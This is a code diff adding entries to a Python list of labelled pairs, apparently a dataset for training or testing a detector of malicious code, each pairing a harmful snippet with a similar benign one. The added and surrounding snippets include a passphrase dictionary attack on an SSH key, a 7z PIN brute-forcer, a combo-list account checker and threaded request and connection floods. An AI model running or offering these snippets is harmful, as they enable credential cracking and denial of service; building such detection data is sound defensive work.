@@ -51,6 +51,12 @@ PAIRS = [
      "import subprocess\nfor p in open('pins.txt').read().split():\n"
      "    if subprocess.call(['7z', 'x', '-p' + p, '-y', 'vault.7z']) == 0:\n        break",
      "import subprocess\nsubprocess.call(['7z', 'x', 'dataset.7z', '-odata'])"),
+    ("password trial: a key's passphrase tried with ssh-keygen per word", "password_cracking",
+     "import subprocess\nfor word in open('/content/words.txt', errors='ignore'):\n"
+     "    r = subprocess.run(['ssh-keygen', '-y', '-f', 'id_ed25519', '-P', word.strip()], capture_output=True)\n"
+     "    if r.returncode == 0:\n        print('passphrase:', word)\n        break",
+     "import subprocess, os\nfor key in ['id_ed25519', 'id_rsa']:\n"
+     "    subprocess.run(['ssh-keygen', '-y', '-f', key, '-P', os.environ['KEY_PASSPHRASE']], check=False)"),
     ("password trial: an account checker over a pasted combo list", "password_cracking",
      "import subprocess\ncombos = \"\"\"\nann@example.org:tulip9\nbo@example.org:lake22\n\"\"\".split(\"\\n\")\n"
      "for row in combos:\n    if ':' in row:\n        who, secret = row.split(':')\n"
@@ -97,6 +103,14 @@ PAIRS = [
      "        ops['go']('http://shop.example.net/')\nfor _ in range(300):\n    threading.Thread(target=hit).start()",
      "import requests\nverbs = {'get': requests.get, 'post': requests.post}\n"
      "r = verbs['get']('https://api.example.org/items')\nprint(r.json())"),
+    ("flood: workers connecting over and over; a scanner whose workers drain a queue of ports", "dos_attack",
+     "import socket, threading\ntarget = '203.0.113.9'\ndef knock(port):\n    s = socket.socket()\n"
+     "    s.connect((target, port))\ndef worker():\n    while True:\n        knock(80)\n"
+     "for _ in range(10):\n    threading.Thread(target=worker).start()",
+     "import socket, threading\nfrom queue import Queue\ntarget = '203.0.113.9'\njobs = Queue()\n"
+     "def knock(port):\n    s = socket.socket()\n    s.connect((target, port))\ndef worker():\n"
+     "    while not jobs.empty():\n        knock(jobs.get())\nfor p in range(1, 1024):\n    jobs.put(p)\n"
+     "for _ in range(10):\n    threading.Thread(target=worker).start()"),
     ("flood: the request made by a lambda kept in a dict", "dos_attack",
      "import threading, urllib.request\nops = {'go': lambda u: urllib.request.urlopen(u, timeout=3).read()}\n"
      "def hit():\n    while True:\n        ops['go']('http://shop.example.net/')\n"
